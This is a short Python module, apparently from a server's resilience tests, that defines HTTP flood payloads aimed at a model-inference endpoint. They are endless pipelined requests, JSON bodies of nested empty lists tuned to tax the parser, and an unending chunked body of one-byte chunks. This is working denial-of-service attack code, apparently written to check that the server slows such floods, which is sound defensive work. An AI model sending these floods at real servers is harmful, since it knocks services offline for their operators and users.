"""What an attacker sends over HTTP, as endless pieces of bytes for one connection: nothing waits for an answer."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from itertools import repeat

from attack.frames import Attack

PIECE_REQUESTS = 20
"""Requests in a piece."""

PIECE_CHUNKS = 2000
"""Chunks in a piece."""

INFER = "POST /v2/models/tensorrt_llm/infer HTTP/1.1\r\nHost: a\r\n"


def requests(head: str, body: bytes = b"") -> Attack:
    """The same request again and again."""
    request = f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body
    return lambda: repeat(request * PIECE_REQUESTS)


def chunks() -> Iterator[bytes]:
    """A body that does not end, in chunks of a byte."""
    yield f"{INFER}Transfer-Encoding: chunked\r\n\r\n".encode()
    yield from repeat(b"1\r\nx\r\n" * PIECE_CHUNKS)


LISTS = b'{"inputs":[{"name":"x","shape":[1],"datatype":"INT32","data":[%s]}]}' % b",".join(
    [b"[]"] * 2000
)
"""Just small enough to be parsed on the event loop, and refused at its end."""

HTTP_FLOODS: Mapping[str, Attack] = {
    "HTTP requests": requests("GET /v2/nothing HTTP/1.1\r\nHost: a\r\n"),
    "HTTP bodies of lists": requests(INFER, LISTS),
    "HTTP chunks of a byte": chunks,
}
"""Attacks on the HTTP port at the speed of the network, by name. All are slowed."""
